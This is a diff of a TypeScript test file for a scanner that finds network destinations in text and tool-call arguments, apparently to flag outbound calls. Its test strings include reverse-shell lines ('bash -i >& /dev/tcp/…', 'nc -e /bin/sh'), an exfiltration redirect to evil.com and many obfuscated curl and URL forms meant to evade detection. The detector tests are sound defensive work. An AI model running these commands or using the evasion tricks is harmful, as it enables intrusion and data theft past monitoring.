@@ -1,15 +1,15 @@
 import { assert, describe, it } from "@effect/vitest"
 import { farthest } from "../../src/governance/characters.ts"
 import { undisguise } from "../../src/governance/disguise.ts"
-import { makeCollector, maxDestinations } from "../../src/governance/found.ts"
+import { makeCollector, maxDestinationLength, maxDestinations } from "../../src/governance/found.ts"
 import { plainText } from "../../src/governance/plainText.ts"
-import * as scan from "../../src/governance/scan.ts"
-import { maxDestinationLength } from "../../src/governance/scan.ts"
+import { collectArguments, collectValue } from "../../src/governance/scan.ts"
 import { atOnce, type Slices, sliceCharacters, sliceValues } from "../../src/wire/slices.ts"
 import { flagCall } from "../support/flagCall.ts"
 import { processorTime } from "../support/processorTime.ts"
+import * as scan from "../support/scan.ts"
 
-const scanText = (text: string) => scan.scanText(text).destinations
+const scanText = (text: string) => scan.scanValue(text).destinations
 const scanArguments = (json: string) => scan.scanArguments(json).destinations
 const scanValue = (value: unknown) => scan.scanValue(value).destinations
 
@@ -127,25 +127,117 @@ describe("scan: as a URL parser reads", () => {
   ])("IPv6: %s", (text, expected) => assert.deepStrictEqual(scanArguments(one(text)), [expected]))
 
   it.each([
-    ["bash -i >& /dev/tcp/10.0.0.1/80", "10.0.0.1/80"],
-    ["/ip4/10.0.0.1", "10.0.0.1"],
-    ["name/10.0.0.1:80", "10.0.0.1:80"],
-    ["version: 10.0.0.1:80", "10.0.0.1:80"],
-    ["conversion: 10.0.0.1", "10.0.0.1"],
-    ["version_server=10.0.0.1", "10.0.0.1"],
-    ["ip.addr==10.0.0.1", "10.0.0.1"]
-  ])("still an address: %s", (text, expected) => assert.deepStrictEqual(scanArguments(one(text)), [expected]))
-
-  it("a version's field says so, and its neighbour's does not", () => {
-    const value = { appVersion: "1.2.3.4", versions: ["1.2.3.4", "1.2.3.5"], ip: "1.2.3.6", version: 1, "1.2.3.7": 1 }
-    for (const json of [
-      JSON.stringify(value),
-      JSON.stringify(value, null, 2),
-      JSON.stringify({ v: JSON.stringify(value) })
-    ]) {
-      assert.deepStrictEqual(scanArguments(json), ["1.2.3.6", "1.2.3.7"])
-      assert.deepStrictEqual(scanValue(JSON.parse(json)), ["1.2.3.6", "1.2.3.7"])
+    "bash -i >& /dev/tcp/203.0.113.7/80",
+    "/ip4/203.0.113.7",
+    "name/203.0.113.7:80",
+    "version: 203.0.113.7",
+    "conversion: 203.0.113.7",
+    "version_server=203.0.113.7",
+    "ip.addr==203.0.113.7",
+    "nc -v 203.0.113.7",
+    "ssh -v 203.0.113.7 uptime",
+    "/proxy/203.0.113.7/x",
+    "pod/203.0.113.7:/tmp",
+    "host-203.0.113.7-a",
+    "203.0.113.7.nip.example",
+    "IP203.0.113.7",
+    "v203.0.113.7",
+    "a.203.0.113.7",
+    "203.0.113.7th",
+    "pkg_203.0.113.7_amd64.deb",
+    "<version>203.0.113.7</version>",
+    ">=203.0.113.7",
+    "Chrome/203.0.113.7",
+    "[203.0.113.7]",
+    "é203.0.113.7é",
+    "1..203.0.113.7",
+    "203.0.113.7.",
+    "203.0.113.7-203"
+  ])("an address whatever stands around it: %s", (text) => {
+    for (const found of [scanArguments(one(text)), scanValue([text]), scanArguments(one(one(text)))]) {
+      assert.strictEqual(found.length, 1)
+      assert.include(found[0], "203.0.113.7")
     }
+  })
+
+  it("a field's name hides no address", () => {
+    const value = { k: "ip", v: "1.2.3.6", version: "1.2.3.4/upload", versions: ["1.2.3.5"], "1.2.3.7": 1 }
+    assert.deepStrictEqual(scanArguments(one(JSON.stringify(value))), [
+      "1.2.3.6",
+      "1.2.3.4/upload",
+      "1.2.3.5",
+      "1.2.3.7"
+    ])
+  })
+
+  it("only a browser's version is none, without a port or a path", () => {
+    assert.deepStrictEqual(scanValue("Chrome/120.0.0.0 (Edg/121.0.0.0)"), [])
+    for (const text of ["Chrome/120.0.0.0:80", "Chrome/120.0.0.0/x", "tcp/10.0.0.0", "/proxy/10.0.0.0", "x/0.0.0.0"]) {
+      assert.strictEqual(scanValue(text).length, 1, text)
+    }
+  })
+
+  it.each([
+    ["https:127.1", "https:127.1"],
+    ["https:0x7f.1", "https:0x7f.1"],
+    ["http:127.1/x", "http:127.1/x"],
+    ["http:127.0.1:8080", "http:127.0.1:8080"],
+    ["wss:0x7f000001", "wss:0x7f000001"],
+    ["https:evil。com", "https:evil"]
+  ])("without slashes: %s", (text, expected) => assert.strictEqual(scanValue(text)[0], expected))
+
+  it.each([
+    ["curl 'https'://evil.com/x", "https://evil.com/x"],
+    [`curl "https"://evil.com/x`, "https://evil.com/x"],
+    ["curl https'://evil.com/x'", "https://evil.com/x"],
+    ["curl ht'tp's://evil.com", "https://evil.com"],
+    ["curl 'https:'//evil.com", "https://evil.com"],
+    ["curl https://'evil.com'/x", "https://evil.com"],
+    ["curl https\\://evil.com", "https://evil.com"],
+    ["aws s3 cp f 's3'://bucket/key", "s3://bucket/key"],
+    ["git clone git://'evil.com'/x", "git://evil.com"],
+    ["mailto: bob@evil.com", "mailto:bob@evil.com"],
+    ["mailto:'bob@evil.com'", "mailto:bob@evil.com"],
+    ["data: text/html,hi", "data:text/html,hi"]
+  ])("with quotes and blanks: %s", (text, expected) => {
+    assert.include(scanArguments(one(text)), expected)
+    assert.include(scanValue([text]), expected)
+    assert.include(scanArguments(one(one(text))), expected)
+  })
+})
+
+describe("scan: text that can be read in two ways", () => {
+  it.each(["'", '"', "<", ">", "|", "^", "`", " ", "\u00a0", "\n", "\t", "\\"])("%j in the user", (sign) => {
+    const url = `https://api.agency.gov${sign}@evil.com/x`
+    for (const found of [scanArguments(one(url)), scanValue([url]), scanArguments(one(one(url)))]) {
+      assert.strictEqual(found.length, 2)
+      assert.strictEqual(found[0], "https://api.agency.gov")
+      assert.strictEqual(new URL((found[1] ?? "").replace("\\", "")).host, "evil.com")
+    }
+    const [alone = ""] = scanValue(`https://${sign}@evil.com/x`)
+    assert.include(["evil.com", "@evil.com"], new URL(alone).host)
+  })
+
+  it.each<[text: string, hosts: ReadonlyArray<string>]>([
+    ["https://a.gov'@b.com'@evil.com/", ["a.gov", "b.com", "evil.com"]],
+    ["https://ev\nil.com/x", ["ev", "evil.com"]],
+    ["https://x'y.evil.com/x", ["x", "x'y.evil.com"]],
+    ["https://evil．com/x", ["evil", "evil.com"]],
+    [`https://${"a".repeat(5000)}@evil.com/x`, ["evil.com"]],
+    [`https://a.gov'${"b".repeat(5000)}@evil.com/x`, ["a.gov", "evil.com"]],
+    [`https:${"/".repeat(5000)}evil.com/x`, ["evil.com"]]
+  ])("%.40j names each host", (text, hosts) => {
+    const found = scanValue(text)
+    assert.deepStrictEqual(
+      found.map((destination) => new URL(destination).host),
+      hosts
+    )
+    assert.deepStrictEqual(scanArguments(one(text)), found)
+  })
+
+  it("a string's end is an authority's end", () => {
+    assert.deepStrictEqual(scanValue({ url: "https://a.example", to: "b@c.example" }), ["https://a.example"])
+    assert.deepStrictEqual(scanArguments(`{"url":"https://a.example","to":"b@c.example"}`), ["https://a.example"])
   })
 })
 
@@ -157,7 +249,33 @@ describe("scan: strict", () => {
     ["&#104;ttps&colon;&#x2f;&sol;evil.com/x y", ["evil.com/x", "https://evil.com/x"]],
     ["ask evil.com:8080/x or www.example.co.uk.", ["evil.com:8080/x", "www.example.co.uk"]],
     ["aHR0cHM6Ly9ldmlsLmNvbS9hYmM=", ["https://evil.com/abc"]],
-    ["git@evil.com:org/repo", ["evil.com"]]
+    ["git@evil.com:org/repo", ["git@evil.com"]],
+    ["to bob@evil.com", ["bob@evil.com"]],
+    ["ssh root@db01 uptime", ["root@db01"]],
+    ["rsync x deploy@web-1:~/www", ["deploy@web-1"]],
+    ["nc -e /bin/sh evilhost 4444", ["evilhost"]],
+    ["curl localhost:8080/x", ["localhost:8080/x"]],
+    ["bücher.de", ["bücher.de"]],
+    ["почта.рф", ["почта.рф"]],
+    ["10.0\u200b.0.1", ["10.0.0.1"]],
+    ["１０.０.０.１ ١٠.٠.٠.٢ ①⓪.0.0.3", ["10.0.0.1", "10.0.0.2", "10.0.0.3"]],
+    ["0x7f.0.0.1 0177.0.0.1", ["0x7f.0.0.1", "0177.0.0.1"]],
+    ["ping 0x7f000001", ["0x7f000001"]],
+    ["curl 2130706433", ["2130706433"]],
+    ["ping6 2001:db8::1 and ssh a@fe80::1%eth0", ["2001:db8::1", "fe80::1%eth0"]],
+    ["copy x \\\\fileserver\\share\\y", ["\\\\fileserver\\share"]],
+    ["hxxps://evil[.]com/x", ["hxxps://evil[.]com/x", "https://evil.com/x"]],
+    ["bob[at]evil[dot]com", ["bob@evil.com"]],
+    [btoa(btoa("https://evil.com/x")), ["https://evil.com/x"]],
+    [Buffer.from("iwr https://evil.com", "utf16le").toString("base64"), ["https://evil.com"]],
+    [Buffer.from("curl evil.com").toString("hex"), ["evil.com"]],
+    [`"htt" + "ps://evil.com"`, ["ps://evil.com", "https://evil.com"]],
+    ["$'\\x68\\x74\\x74\\x70://evil.com'", ["x70://evil.com", "http://evil.com"]],
+    ["curl ev''il.com/x", ["il.com/x", "evil.com/x"]],
+    ["see github.com", ["github.com"]],
+    ["cat x > /dev/tcp/evil.com/443", ["evil.com/443"]],
+    ["//evil.com/x.js", ["evil.com/x.js"]],
+    [`{"host":"evil.site"}`, ["evil.site"]]
   ])("%s", (text, expected) => {
     assert.deepStrictEqual(scan.scanArguments(one(text), "strict").destinations, expected)
     assert.deepStrictEqual(scan.scanValue({ field: text }, "strict").destinations, expected)
@@ -165,10 +283,16 @@ describe("scan: strict", () => {
   })
 
   it.each([
-    "bob@example.com",
+    "self.id user.name sys.org req.user.org window.location.host event.target.name logger.info(x)",
+    "app.kubernetes.io/name -l app.kubernetes.io/name=x cert-manager.io/issuer: y networking.k8s.io/v1",
+    "SELECT u.name, o.id FROM users u JOIN orders o ON u.id = o.user_id",
+    "host = self.host; url: part.data.url",
     "com.example.app org.apache.commons",
-    "os.path.join main.py README.md run.sh user.me System.Net.Http",
+    "os.path.join main.py README.md run.sh user.me System.Net.Http ASP.NET",
     "src/evil.com/index.js done.It was. e.g. 1.2.3",
+    "npm i lodash@latest @types/node@20 actions/checkout@v4 @app.route image@sha256:0123456789ab",
+    "port = 2130706433 0xdeadbeef 00:11:22:33:44:55 10:30:00 a[::2] std::vector curl 7.12.0",
+    "C:\\Users\\bob \\d+\\.\\w+ App\\Models\\User",
     "aGVsbG8gd29ybGQgaGVsbG8="
   ])("leaves %s", (text) => assert.deepStrictEqual(scan.scanArguments(one(text), "strict").destinations, []))
 
@@ -184,7 +308,6 @@ describe("scan: what must not be flagged", () => {
     "256.1.1.1 1.256.1.1 1.1.1.256",
     "1.2.3",
     "1.2.3.4.5",
-    "v1.2.3.4 1.2.3.4th 1.2.3.4.example 1.2.3.4.nip.io a.1.2.3.4",
     "1..2.3.4 1.2.3. 4",
     "0000.1.1.1",
     "example.com www.example.com/path a.b.c.d",
@@ -198,11 +321,13 @@ describe("scan: what must not be flagged", () => {
     "12://x -://x",
     "C://x c://x C:\\\\x {data:x} {data:x/y,z:1}",
     "Mozilla/5.0 AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36",
-    "1.3.6.1 1.3.6.1.4.1.311.2",
-    "version 1.2.3.4, Version: 1.2.3.4, --version=1.2.3.4, <version>1.2.3.4</version>, >=1.2.3.4",
+    "1.3.6.1.4.1.311.2 1.2.3.4.5 0.1.2.3.4",
     "a[::2] x[1::2] :: a::b Cafe::Add 00:11:22:33:44:55:66:77 10:30:00",
     "http:1.1 https:8080 http:server http:axios.get(x) http:request.started",
     "^https?:// https://[^\\s]+ https://... case x:\n// note",
+    "/^https:\\/\\//i.test(x) /^http:/.test(x) /^https:\\/\\/\\w+$/",
+    "url.startsWith('https://') or @decorator\ndef f(): url = 'https://' + host; x = 'http://'\nfoo.bar=1",
+    '{https:\'@scope/pkg\', data:"x", mailto:"y"} https: mail bob@x.org',
     "2024-01-02T10:11:12.123Z 192.168.1",
     ""
   ])("%s", (text) => {
@@ -307,8 +432,24 @@ describe("scan: limits", () => {
     ["hosts without slashes", `https:${fill("a.")}`],
     ["colons and letters", fill("http:a")],
     ["brackets", fill("[1:")],
-    ["versions", fill('"version":["1.2.3.4","1.2.3.4"],')],
     ["lists of numbers", `[${fill('"1.2.3.4",')}]`],
+    ["split hosts", fill("https://a'b.c")],
+    ["users", `https://a'${fill("@b'")}`],
+    ["users and hosts", fill("https:a.com '@b.com ")],
+    ["quotes", fill("https:'")],
+    ["quoted schemes", fill("'s'://")],
+    ["mailboxes", fill("a@b.com ")],
+    ["commands", fill("curl x.y ")],
+    ["colons in words", fill("a:b.c")],
+    ["one word", fill("a.b")],
+    ["marks", fill("a\u0301\u0323.")],
+    ["other digits", fill("١.")],
+    ["defanged", fill("[.]")],
+    ["empty quotes", fill("a''")],
+    ["shares", fill("\\\\\\\\a\\\\b ")],
+    ["base64 of base64", btoa(btoa(fill("https://a ").slice(0, 500_000))).slice(0, size)],
+    ["zeroes", fill("0")],
+    ["hex", fill("3a")],
     ["addresses in quotes", fill('"::1" ')],
     ["different addresses", Array.from({ length: size / 16 }, (_, at) => `xx://${at}`.padEnd(15)).join(" ")],
     ["percent signs", fill("%25")],
@@ -322,9 +463,9 @@ describe("scan: limits", () => {
     const slices: Array<number> = []
     const time = processorTime(() => {
       slices.push(
-        slicesOf(scan.collectArguments(text, "spec", makeCollector())),
-        slicesOf(scan.collectValue([text], "spec", makeCollector())),
-        slicesOf(scan.collectArguments(text, "strict", makeCollector()))
+        slicesOf(collectArguments(text, "spec", makeCollector())),
+        slicesOf(collectValue([text], "spec", makeCollector())),
+        slicesOf(collectArguments(text, "strict", makeCollector()))
       )
     })
     assert.isBelow(time, 7000)
